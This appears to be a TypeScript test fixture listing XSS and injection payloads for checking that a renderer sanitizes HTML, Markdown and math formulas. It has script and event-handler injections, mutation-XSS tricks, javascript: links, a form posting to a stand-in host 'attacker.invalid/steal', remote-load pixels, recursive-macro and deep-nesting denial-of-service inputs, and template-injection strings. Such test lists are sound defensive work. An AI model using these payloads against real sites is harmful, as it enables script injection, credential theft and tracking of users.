/**
 * Texts that try to run, to load or to deceive where they are shown. `mark` is what each would
 * leave behind had it run: a global, a title, a request to this host.
 */
export const mark = "prefstream_attacked"
const host = "attacker.invalid"
const run = `window.${mark}=1`

/** Raw HTML. */
export const html: ReadonlyArray<string> = [
  `<script>${run}</script>`,
  `<ScRiPt src="https://${host}/x.js"></sCrIpT>`,
  `<script type="module">import("https://${host}/m.js");${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<img src="https://${host}/pixel.gif">`,
  `<img srcset="https://${host}/a.png 1x">`,
  `<svg onload="${run}"><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>click</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<iframe src="https://${host}/frame"></iframe>`,
  `<iframe srcdoc="<script>parent.${mark}=1</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.${mark}=1</script>"></object>`,
  `<embed src="https://${host}/e.swf">`,
  `<link rel="stylesheet" href="https://${host}/s.css">`,
  `<link rel=prefetch href="https://${host}/p">`,
  `<style>@import "https://${host}/i.css"; body{display:none}</style>`,
  `<div style="position:fixed;inset:0;background:url(https://${host}/bg)">cover</div>`,
  `<meta http-equiv="refresh" content="0;url=https://${host}/">`,
  `<base href="https://${host}/">`,
  `<form action="https://${host}/steal"><input name=p autofocus onfocus="${run}"><button>Submit</button></form>`,
  `<video src="https://${host}/v.mp4" autoplay onerror="${run}"></video>`,
  `<audio src="https://${host}/a.mp3" autoplay></audio>`,
  `<details open ontoggle="${run}"><summary>x</summary></details>`,
  `<body onload="${run}">`,
  `<marquee onstart="${run}">x</marquee>`,
  `<input type=image src="https://${host}/i.png">`,
  `<table background="https://${host}/t.png"><tr><td>x</table>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<textarea></textarea><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `"><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<a href="javascript:${run}" id="app">link</a>`,
  `<a name="getElementById"></a><img name="cookie"><form id="app"></form>`,
  `<x onclick="${run}" tabindex=1 id=x autofocus onfocus="${run}">x</x>`,
]

/** Markdown that becomes HTML. */
export const markdown: ReadonlyArray<string> = [
  `[click](javascript:${run})`,
  `[click](JaVaScRiPt:${run})`,
  `[click](&#106;avascript:${run})`,
  `[click](java\tscript:${run})`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[click](vbscript:msgbox(1))`,
  `[click](<javascript:${run}>)`,
  `<javascript:${run}>`,
  `[ref]\n\n[ref]: javascript:${run}`,
  `![pixel](https://${host}/track.png)`,
  `![x](x "onerror=${run}")`,
  `![x](https://${host}/"onerror="${run})`,
  `![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
  `[![nested](https://${host}/n.png)](javascript:${run})`,
  `[a](https://${host}/ "title\\" onmouseover=\\"${run}")`,
  "```html\n</code></pre><script>" + run + "</script>\n```",
  "```<img/src=x/onerror=" + run + ">\ncode\n```",
  "`<script>" + run + "</script>`",
  `| a |\n|---|\n| <img src=x onerror=${run}> |`,
  `# <svg/onload=${run}>`,
  `> <iframe src=https://${host}/q>`,
  `- [ ] <input onfocus=${run} autofocus>`,
  `https://${host}/auto?"onmouseover="${run}`,
  `${">".repeat(500)} deep`,
  "[".repeat(2_000),
  "*a ".repeat(2_000),
  `${"`".repeat(1_000)}a`,
]

/** Formulas that link, load or style, that draw over the page, or that take long. */
export const formulas: ReadonlyArray<string> = [
  `$\\href{javascript:${run}}{click}$`,
  `$\\href{https://${host}/}{click}$ and $\\url{javascript:${run}}$`,
  `$$\\includegraphics[height=9em]{https://${host}/x.png}$$`,
  `$\\htmlStyle{position:fixed;inset:0;background:url(https://${host}/bg)}{cover}$`,
  `$\\htmlClass{overlay}{\\htmlId{app}{\\htmlData{x=y}{cover}}}$`,
  `$\\text{<img src=x onerror="${run}">} \\text{" onmouseover="${run}" data-style="position:fixed}$`,
  `$\\color{red;position:fixed}x \\colorbox{url(https://${host}/c)}{y}$`,
  "$$\\rule{99999em}{99999em}$$ and $\\rule{99999em}{99999em}$",
  "$\\kern-999em\\raisebox{999em}{\\Huge cover} \\llap{\\rule{999em}{999em}}$",
  `$${"\\raisebox{20em}{\\kern-20em ".repeat(50)}x${"}".repeat(50)}$`,
  "$\\def\\a#1{\\a{#1#1}}\\a x$ and $\\gdef\\b{\\b\\b}\\b$ and $\\edef\\c{\\c\\c}\\c$",
  `$${"\\frac{x}{".repeat(200)}y${"}".repeat(200)}$`,
  `$${"{".repeat(1_000)}$ $${"\\sqrt{".repeat(200)}$`,
  "$\\sqrt{x}$ ".repeat(300),
  "$$\n".repeat(500),
  "\\( \\[ $ ".repeat(200),
]

/** Text that looks like something else. */
export const deceptive: ReadonlyArray<string> = [
  "right \u202Eto left override\u202C and \u2066isolates\u2069",
  `\u0000 nul, \u0007 bell, \u001b[31mred\u001b[0m, \u2028 line separator`,
  `Z${"\u0300".repeat(300)}algo`,
  "A".repeat(4_000),
  "🏴‍☠️".repeat(500),
  "javascript:alert(1)",
  "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>",
]

export const all: ReadonlyArray<string> = [...html, ...markdown, ...formulas, ...deceptive]
